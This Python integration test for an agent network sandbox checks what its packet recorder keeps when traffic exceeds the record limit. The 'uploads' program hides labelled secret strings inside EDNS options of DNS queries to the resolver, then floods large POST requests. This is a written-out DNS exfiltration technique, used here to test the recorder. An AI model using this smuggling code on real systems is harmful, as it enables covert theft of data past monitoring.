"""Scenarios in which more passes than a packet record may keep, with the real gateway."""

from __future__ import annotations

import json
import sys
from collections.abc import Awaitable, Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

from tests.integration.range_programs.scene import SHOP, Scene, cell

from belljar.network.owner.processes import SERVE
from belljar.plan.network import NetworkBounds

RECORD_BYTES = 1 << 20
SECRETS = [f"secret-number-{number:02}-of-this-attack" for number in range(20)]
ROUTES = [
    {"path": "/{n}", "body": "x" * 200_000},
    {"path": "/", "method": "POST", "body": "hello"},
]
WEB = replace(SHOP, settings={"routes": ROUTES})
DOWNLOADS = r"""
import http.client, sys
for _ in range(10):
    c = http.client.HTTPConnection(sys.argv[1], 80, timeout=300)
    for n in range(int(sys.argv[2])):
        c.request("GET", f"/{n}", headers={"Host": "shop.example", "User-Agent": "pip/24.0"})
        r = c.getresponse()
        assert r.status == 200, r.status
        assert len(r.read()) == 200000
    c.close()
"""
UPLOADS = r"""
import http.client, json, socket, struct, sys
for secret in json.loads(sys.argv[4]):
    option = struct.pack("!HH", 65001, len(secret)) + secret.encode()
    opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option
    query = b"\0\1\1\0" + struct.pack("!HHHH", 1, 0, 0, 1) + b"\4shop\7example\0\0\1\0\1" + opt
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(60)
        s.sendto(query, (sys.argv[2], 53))
        assert s.recv(512)
for n in range(110):
    c = http.client.HTTPConnection(sys.argv[1], 80, timeout=300)
    c.request("POST", "/", body=b"y" * int(sys.argv[3]), headers={"Host": "shop.example"})
    c.getresponse().read()
    c.close()
"""


async def filled(home: Path, program: str, *words: str) -> dict[str, Any]:
    """A cell runs a program, and the range ends."""
    bounds = NetworkBounds(packet_record_bytes=RECORD_BYTES)
    scene = Scene(home, stand_ins=(WEB,), bounds=bounds)
    async with scene.open(serve=SERVE) as made:
        with cell(made) as agent:
            await made.attach("agent", agent.pid)
            addresses = {"SHOP": scene.address(), "RESOLVER": scene.layout.resolver}
            said = agent.run(
                sys.executable, "-I", "-c", program, *(addresses.get(word, word) for word in words)
            )
    kept = b"".join(body.content for event in scene.recorder.events for body in event.bodies)
    return {
        **scene.summary(made),
        "said": said,
        "counters": dict(made.counters()),
        "secrets_in_events": sum(secret.encode() in kept for secret in SECRETS),
    }


SCENARIOS: dict[str, Callable[[Path], Awaitable[dict[str, Any]]]] = {
    "downloads": lambda home: filled(home, DOWNLOADS, "SHOP", "5"),
    "uploads": lambda home: filled(
        home, UPLOADS, "SHOP", "RESOLVER", "100000", json.dumps(SECRETS)
    ),
}
